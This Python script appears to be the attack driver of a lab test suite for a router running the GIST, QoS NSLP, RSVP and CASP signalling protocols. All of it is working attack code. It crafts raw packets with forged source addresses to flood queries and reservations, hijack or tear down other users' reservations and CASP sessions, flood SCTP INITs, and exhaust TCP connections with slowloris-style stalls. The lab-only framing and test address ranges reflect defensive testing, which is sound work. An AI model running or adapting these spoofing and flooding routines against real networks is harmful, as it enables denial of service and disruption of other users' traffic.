#!/usr/bin/env python3
"""Attacks for the scenarios hostile-*: packets with any source by a raw socket, and peers that do not behave.

    attack.py KIND SECONDS RATE TARGET [ARGUMENT ...]

TARGET is the router; what else an attack needs is at its function. It prints "started" with the first packet and a line
with the number of packets at the end. It runs in the network namespaces of the lab only: it needs a raw socket.
"""

import ipaddress
import itertools
import json
import os
import random
import selectors
import socket
import struct
import subprocess
import sys
import time

MAGIC = bytes.fromhex("4e04bda5")
GIST, UDP, RSVP = 270, 17, 46
CASP, SCOUT = 50003, 50004
ALERT = bytes.fromhex("94040000")
ALERT6 = bytes.fromhex("1100050200000100")
PING, QOS = 32704, 1
QUERY, RESPONSE, CONFIRM, DATA = 0, 1, 2, 3
EPOCH = 7

rng = random.Random(1)


def ip(text):
    return socket.inet_pton(socket.AF_INET6 if ":" in text else socket.AF_INET, text)


def checksum(octets):
    octets += b"\0" * (len(octets) % 2)
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def packet(src, dst, protocol, payload, ttl=64, alert=False):
    options = ALERT if alert else b""
    words = 5 + len(options) // 4
    length = words * 4 + len(payload)
    head = struct.pack("!BBHHHBBH4s4s", 0x40 | words, 0, length, 0, 0, ttl, protocol, 0, src, dst) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(payload, sport=GIST, dport=GIST):
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def forged():
    """An address of 198.18.0.0/15 (RFC 2544)."""
    return struct.pack("!I", 0xC6120000 | rng.getrandbits(17))


def packet6(src, dst, protocol, payload, alert=False):
    if alert:
        protocol, payload = 0, ALERT6 + payload
    return struct.pack("!IHBB", 6 << 28, len(payload), protocol, 64) + src + dst + payload


def udp6(src, dst, payload):
    """A datagram of GIST; with IPv6 its checksum is needed."""
    octets = udp(payload)
    total = checksum(src + dst + struct.pack("!II", len(octets), UDP) + octets)
    return octets[:6] + struct.pack("!H", total or 0xFFFF) + octets[8:]


def forged6():
    """An address of 2001:db8:bad::/48."""
    return bytes.fromhex("20010db80bad") + rng.randbytes(10)


# GIST (RFC 5971)


def gist(kind, objects, nslp, flags, c=0x80):
    body = b"".join(struct.pack("!HH", number, len(value) // 4) + value for number, value in objects)
    return MAGIC + struct.pack("!BBHHBB", 1, 64, len(body) // 4, nslp, c | kind, flags) + body


def mri(src, dst, port=None):
    """A flow downstream; with a port a flow of UDP."""
    version, bits = (0x60, 128) if len(src) == 16 else (0x40, 32)
    if port is None:
        return struct.pack("!BxBB", 0, version, 0) + src + dst + struct.pack("!BBxx", bits, bits)
    ends = src + dst + struct.pack("!BBBBHH", bits, bits, UDP, 0, 0, port)
    return struct.pack("!BxBB", 0, version | 0x08, 0x40) + ends


def nli(address, identity=None):
    version = 0x60 if len(address) == 16 else 0x40
    return struct.pack("!BBBxI", 4, 64, version, 30000) + (identity or rng.randbytes(4)) + address


def query(src, dst, address=None, identity=None, session=None, nslp=PING, port=None):
    objects = [
        (0, mri(src, dst, port)),
        (1, session or rng.randbytes(16)),
        (2, nli(address or src, identity)),
        (5, rng.randbytes(8)),
    ]
    return gist(QUERY, objects, nslp, 0x40)


def reserve(rate, bound=None):
    """A RESERVE with a QSPEC for controlled load of so many octets a second (RFC 5974, RFC 5975). With `bound`, its session depends on
    that one."""
    tmod = struct.pack("!HHfffII", 0x8001, 5, rate, 3000.0, float("inf"), 1, 1500)
    qspec = struct.pack("!II", 7, 6) + tmod
    objects = [
        (2, struct.pack("!II", 1, EPOCH)),
        (1, rng.randbytes(4)),
        (3, struct.pack("!I", 30000)),
        *([(4, struct.pack("!I", 4) + bound)] if bound else []),
        (11, qspec),
    ]
    body = b"".join(struct.pack("!HH", kind, len(value) // 4) + value for kind, value in objects)
    return struct.pack("!BBH", 1, 1, 0) + body


def tear(number):
    """A RESERVE that ends a reservation: TEAR, and a newer RSN."""
    return struct.pack("!BBH", 1, 2, 0) + struct.pack("!HHII", 2, 2, number, EPOCH)


# RSVP (RFC 2205)


def rsvp(kind, objects, ttl=63):
    body = b"".join(struct.pack("!HBB", 4 + len(value), cls, ctype) + value for cls, ctype, value in objects)
    return struct.pack("!BBHBBH", 0x10, kind, 0, ttl, 0, 8 + len(body)) + body


def session(dst, port):
    return (1, 1, dst + struct.pack("!BBH", UDP, 0, port))


def hop(address, handle=0):
    return (3, 1, address + struct.pack("!I", handle))


def tspec(rate):
    return struct.pack("!HHBBHBBHfffII", 0, 7, 1, 0, 6, 127, 0, 5, rate, 3000.0, float("inf"), 64, 1500)


def flowspec(rate):
    return struct.pack("!HHBBHBBHfffII", 0, 7, 5, 0, 6, 127, 0, 5, rate, 3000.0, float("inf"), 64, 1500)


def sender(src, port=4000):
    return src + struct.pack("!HH", 0, port)


def path(src, dst, port, previous, ttl=63, period=30000):
    objects = [
        session(dst, port),
        hop(previous, 7),
        (5, 1, struct.pack("!I", period)),
        (11, 1, sender(src)),
        (12, 2, tspec(1000.0)),
    ]
    return rsvp(1, objects, ttl)


def resv(src, dst, port, next_hop, handle, rate, style=0x0A, period=30000):
    objects = [
        session(dst, port),
        hop(next_hop, handle),
        (5, 1, struct.pack("!I", period)),
        (8, 1, struct.pack("!I", style)),
        (9, 2, flowspec(rate)),
    ]
    if style == 0x0A:
        objects.append((10, 1, sender(src)))
    return rsvp(2, objects, 255)


def error(kind, src, dst, port, node, code):
    objects = [session(dst, port), (6, 1, node + struct.pack("!BBH", 0, code, 0))]
    if kind == 3:
        objects += [(11, 1, sender(src)), (12, 2, tspec(1000.0))]
    else:
        objects[1:1] = [hop(node, 0)]
        objects += [(8, 1, struct.pack("!I", 0x0A)), (9, 2, flowspec(1000.0)), (10, 1, sender(src))]
    return rsvp(kind, objects, 255)


def srefresh(group, count):
    entries = b"".join(struct.pack("!I", number) + group + group for number in range(count))
    return rsvp(15, [(25, 4, struct.pack("!I", 7) + entries)], 1)


# Attacks. Each is a generator of IP packets.


def queries(target, dst):
    """Queries with forged sources for a flow to DST (T11)."""
    while True:
        src = forged()
        yield packet(src, ip(dst), UDP, udp(query(src, ip(dst))), alert=True)


def absent(target, dst, network):
    """Queries whose NLI has an address of the /24 NETWORK that no host has (T12)."""
    net = ip(network)[:3]
    while True:
        address = net + bytes([rng.randrange(20, 250)])
        yield packet(address, ip(dst), UDP, udp(query(address, ip(dst))), alert=True)


def reserves(target, dst, near):
    """RESERVEs in one datagram each: in Q-mode across the router, and explicitly routed to it (T02)."""
    while True:
        src = forged()
        port = rng.randrange(10000, 60000)
        objects = [
            (0, mri(src, ip(dst), port)),
            (1, rng.randbytes(16)),
            (2, nli(src)),
            (8, reserve(1000.0)),
        ]
        yield packet(src, ip(dst), UDP, udp(gist(DATA, objects, QOS, 0)), alert=True)
        yield packet(src, ip(near), UDP, udp(gist(DATA, objects, QOS, 0xA0, 0)))


def paths(target, dst, previous):
    """Paths of many senders to DST, from a neighbor PREVIOUS (T09)."""
    while True:
        src = forged()
        port = rng.randrange(10000, 60000)
        yield packet(src, ip(dst), RSVP, path(src, ip(dst), port, ip(previous)), 63, True)


def steal(target, dst, router, previous):
    """Path and Resv of a reservation that the receiver never asked for, by the wrong interface (T04), with long
    lifetimes; and a tear, errors, Hellos and summaries about it (T03, T05, T06, T07, T18)."""
    while True:
        src, port = forged(), rng.randrange(10000, 10100)
        yield packet(src, ip(dst), RSVP, path(src, ip(dst), port, ip(router), period=0x7FFFFFFF), 63, True)
        for handle in range(5):
            message = resv(src, ip(dst), port, ip(dst), handle, 9e6, period=0x7FFFFFFF)
            yield packet(ip(dst), ip(target), RSVP, message, 255)
            yield packet(ip(previous), ip(target), RSVP, resv(src, ip(dst), port, ip(previous), handle, 9e6, 0x11), 255)
        for kind in (3, 4):
            for source in (router, dst, previous):
                message = error(kind, src, ip(dst), port, ip(source), rng.randrange(1, 26))
                yield packet(ip(source), ip(target), RSVP, message, 255)
        hello = rsvp(20, [(22, 1, struct.pack("!II", rng.getrandbits(31) + 1, 0))], 1)
        yield packet(ip(dst), ip(target), RSVP, hello, 1)
        yield packet(ip(previous), ip(target), RSVP, hello, 1)
        yield packet(ip(previous), ip(target), RSVP, srefresh(ip(dst), 100), 1)


def tears(target, dst, source, port):
    """PathTears and ResvTears of an honest session, with its addresses, by a link that is not its own (T06)."""
    while True:
        objects = [session(ip(dst), int(port)), hop(ip(source), 0)]
        yield packet(ip(source), ip(dst), RSVP, rsvp(5, [*objects, (11, 1, sender(ip(source)))], 63), 63, True)
        for handle in range(4):
            objects = [
                session(ip(dst), int(port)),
                hop(ip(dst), handle),
                (8, 1, struct.pack("!I", 0x0A)),
                (10, 1, sender(ip(source))),
            ]
            yield packet(ip(dst), ip(target), RSVP, rsvp(6, objects, 255), 255)


def inits(target):
    """INITs of SCTP with forged sources (T17)."""
    table = []
    for number in range(256):
        for _ in range(8):
            number = (number >> 1) ^ (0x82F63B78 if number & 1 else 0)
        table.append(number)

    def crc(octets):
        value = 0xFFFFFFFF
        for octet in octets:
            value = (value >> 8) ^ table[(value ^ octet) & 0xFF]
        return struct.pack("<I", value ^ 0xFFFFFFFF)

    while True:
        chunk = struct.pack("!BBHIIHHI", 1, 0, 20, rng.getrandbits(32) | 1, 65536, 10, 10, 7)
        head = struct.pack("!HHI", rng.randrange(1024, 65535), GIST, 0)
        octets = head + crc(head + b"\0\0\0\0" + chunk) + chunk
        if ":" in target:
            yield packet6(forged6(), socket.inet_pton(socket.AF_INET6, target), 132, octets)
        else:
            yield packet(forged(), ip(target), 132, octets)


def send(source, seconds, rate):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    raw6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw6.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    begin, sent, refused = time.monotonic(), 0, 0
    print("started", flush=True)
    while (elapsed := time.monotonic() - begin) < seconds:
        while sent < elapsed * rate:
            octets = next(source)
            try:
                if octets[0] >> 4 == 6:
                    raw6.sendto(octets, (socket.inet_ntop(socket.AF_INET6, octets[24:40]), 0))
                else:
                    raw.sendto(octets, (socket.inet_ntoa(octets[16:20]), 0))
            except OSError:
                refused += 1
            sent += 1
        time.sleep(0.002)
    print(f"{sent} packets in {seconds:g} s, {refused} refused")


def identities(seconds, rate, target, dst, own):
    """Handshakes with invented identities from the real address OWN (T13)."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    answers = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    answers.bind(("", GIST))
    answers.setblocking(False)
    begin, sent, confirmed = time.monotonic(), 0, 0
    asked = {}
    print("started", flush=True)
    while (elapsed := time.monotonic() - begin) < seconds:
        while sent < elapsed * rate:
            name, identity = rng.randbytes(16), rng.randbytes(4)
            asked[name] = identity
            message = query(ip(own), ip(dst), ip(own), identity, name)
            raw.sendto(packet(ip(own), ip(dst), UDP, udp(message), alert=True), (dst, 0))
            sent += 1
        try:
            while True:
                message, (address, _) = answers.recvfrom(2048)
                confirmed += confirm(answers, message, address, asked, ip(own), ip(dst))
        except BlockingIOError:
            time.sleep(0.001)
    print(f"{sent} Queries in {seconds:g} s, {confirmed} confirmed")


def objects_of(message):
    at, found = 12, {}
    while at + 4 <= len(message):
        kind, words = struct.unpack("!HH", message[at : at + 4])
        found[kind & 0xFFF] = message[at + 4 : at + 4 + (words & 0xFFF) * 4]
        at += 4 + (words & 0xFFF) * 4
    return found


def confirm(out, message, address, asked, own, dst):
    found = objects_of(message)
    identity = asked.pop(found.get(1), None)
    if identity is None or 6 not in found:
        return 0
    objects = [(0, mri(own, dst)), (1, found[1]), (2, nli(own, identity)), (6, found[6])]
    out.sendto(gist(CONFIRM, objects, PING, 0x80, 0), (address, GIST))
    return 1


def dependents(seconds, rate, target, dst, own):
    """Handshakes and reservations of sessions each of which depends on the one before it, from the address OWN, over IPv4 or IPv6; in
    the last three seconds the first one is torn down (T01)."""
    ours, theirs, identity = ip(own), ip(dst), rng.randbytes(4)
    v6 = len(ours) == 16
    family = socket.AF_INET6 if v6 else socket.AF_INET
    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    answers = socket.socket(family, socket.SOCK_DGRAM)
    answers.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    answers.bind((own, GIST))
    answers.setblocking(False)
    names, reserved, ended, begin = [], {}, 0, time.monotonic()

    def ask(number):
        name = struct.pack("!I", number) + bytes(12)
        message = query(ours, theirs, ours, identity, name, QOS, 1000 + number)
        if v6:
            octets = packet6(ours, theirs, UDP, udp6(ours, theirs, message), alert=True)
        else:
            octets = packet(ours, theirs, UDP, udp(message), alert=True)
        raw.sendto(octets, (dst, 0))
        return name

    def say(number, kind, last, nslp_data=None):
        objects = [(0, mri(ours, theirs, 1000 + number)), (1, names[number]), (2, nli(ours, identity)), *last]
        if nslp_data:
            objects.append((8, nslp_data))
        answers.sendto(gist(kind, objects, QOS, 0x80, 0), (target, GIST))

    print("started", flush=True)
    while (elapsed := time.monotonic() - begin) < seconds:
        while len(names) < min(elapsed, seconds - 3) * rate:
            names.append(ask(len(names)))
        try:
            while True:
                found = objects_of(answers.recv(4096))
                if 6 not in found:
                    continue
                [number] = struct.unpack("!I", found[1][:4])
                say(number, CONFIRM, [(6, found[6])])
                before = names[number - 1] if number else None
                say(number, DATA, [], reserve(1.0, before))
                reserved[number] = True
        except BlockingIOError:
            time.sleep(0.001)
        if elapsed > seconds - 3 + ended:
            ended += 1
            say(0, DATA, [], tear(1 + ended))
    print(f"{len(names)} Queries in {seconds:g} s, {len(reserved)} reservations asked for")


def many_addresses(target):
    """Further addresses of this host's own /64 towards TARGET; only [None] with IPv4."""
    if ":" not in target:
        return [None]
    [route] = json.loads(subprocess.check_output(["ip", "-j", "-6", "route", "get", target]))
    net = ipaddress.ip_network(route["prefsrc"] + "/64", strict=False)
    addresses = [str(net[0xA0000 + number]) for number in range(64)]
    for address in addresses:
        subprocess.check_call(["ip", "-6", "addr", "add", f"{address}/128", "dev", route["dev"], "nodad"])
    return addresses


def casp_object(kind, contents):
    return struct.pack("!HBB", 4 + len(contents), kind, 1) + contents


def casp_message(kind, objects, flags=0, session=None):
    """A message of CASP without its Length Header (docs/wire/casp.md)."""
    return struct.pack("!BBBB", flags, 64, 0, kind) + (session or rng.randbytes(16)) + objects


def casp_flow(src, dst):
    return casp_object(1, ip(src) + ip(dst) + struct.pack("!HHB3x", rng.getrandbits(16) | 1, 5001, UDP))


def scouts(target, dst):
    """Scout Requests with forged sources: towards DST with Router Alert, so that the router intercepts them, and to the router
    itself."""
    for number in itertools.count():
        request = casp_message(2, casp_object(5, rng.randbytes(8)), session=bytes(16))
        to, alert = (ip(dst), True) if number % 2 else (ip(target), False)
        yield packet(forged(), to, UDP, udp(request, SCOUT, SCOUT), alert=alert)


def redirections(target, source, dst, *routers):
    """What would move the sessions of SOURCE to this host, or end them: Scout Responses and tear-downs in the name of the
    routers, and messages with cookies that no node gave."""
    for _ in itertools.count():
        answer = casp_object(5, rng.randbytes(8)) + casp_object(6, rng.randbytes(8))
        flow = casp_flow(source, dst)
        for router in routers:
            response = casp_message(3, answer, session=bytes(16))
            yield packet(ip(router), ip(target), UDP, udp(response, SCOUT, SCOUT))
            yield packet(ip(router), ip(target), UDP, udp(casp_message(1, flow, 0x40), CASP, CASP))
        yield packet(forged(), ip(target), UDP, udp(casp_message(1, flow + casp_object(6, rng.randbytes(8))), CASP, CASP))


def deaf(seconds, rate, target, dst, *_):
    """Connections to the port of CASP that send messages with wrong cookies, which are to be answered, and read nothing."""
    begin, sent, held = time.monotonic(), 0, []
    for _ in range(8):
        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        connection.connect((target, CASP))
        connection.setblocking(False)
        held.append(connection)
    own = held[0].getsockname()[0]
    print("started", flush=True)
    while (elapsed := time.monotonic() - begin) < seconds:
        while sent < elapsed * rate:
            message = casp_message(1, casp_flow(own, dst) + casp_object(6, rng.randbytes(8)))
            sent += 1
            try:
                held[sent % len(held)].send(struct.pack("!I", 4 + len(message)) + message)
            except OSError:
                pass
        time.sleep(0.002)
    print(f"{sent} messages in {seconds:g} s, nothing read")


def connections(seconds, rate, target, port=GIST, *_):
    """TCP connections to a port that say nothing, as many as stay open, and new ones all the time (T14 to T16). With IPv6 they
    come from many addresses of one /64."""
    # The beginning of a message of GIST of 65,536 octets, or of one of CASP of 60,000, that never ends.
    if int(port) == CASP:
        begins = struct.pack("!I", 60000) + casp_message(1, b"") + os.urandom(50000)
    else:
        begins = struct.pack("!BBHHBB", 1, 64, 0x3FFF, PING, DATA, 0) + os.urandom(60000)
    selector, opened, refused = selectors.DefaultSelector(), 0, 0
    own = many_addresses(target)
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    begin = time.monotonic()
    held = []
    print("started", flush=True)
    while (elapsed := time.monotonic() - begin) < seconds:
        while opened + refused < elapsed * rate:
            connection = socket.socket(family, socket.SOCK_STREAM)
            connection.setblocking(False)
            if address := own[opened % len(own)]:
                connection.bind((address, 0))
            result = connection.connect_ex((target, int(port)))
            if result in (0, 115):
                opened += 1
                held.append(connection)
                if opened % 2:
                    selector.register(connection, selectors.EVENT_WRITE)
            else:
                refused += 1
        for key, _ in selector.select(0):
            selector.unregister(key.fileobj)
            try:
                key.fileobj.send(begins)
            except OSError:
                pass
        while len(held) > 900:
            held.pop(0).close()
        time.sleep(0.002)
    print(f"{opened} connections in {seconds:g} s, {refused} refused")


def main():
    kind, seconds, rate, target, *rest = sys.argv[1:]
    attack = globals()[kind]
    if kind in ("identities", "dependents", "connections", "deaf"):
        attack(float(seconds), float(rate), target, *rest)
    else:
        send(attack(target, *rest), float(seconds), float(rate))


if __name__ == "__main__":
    main()
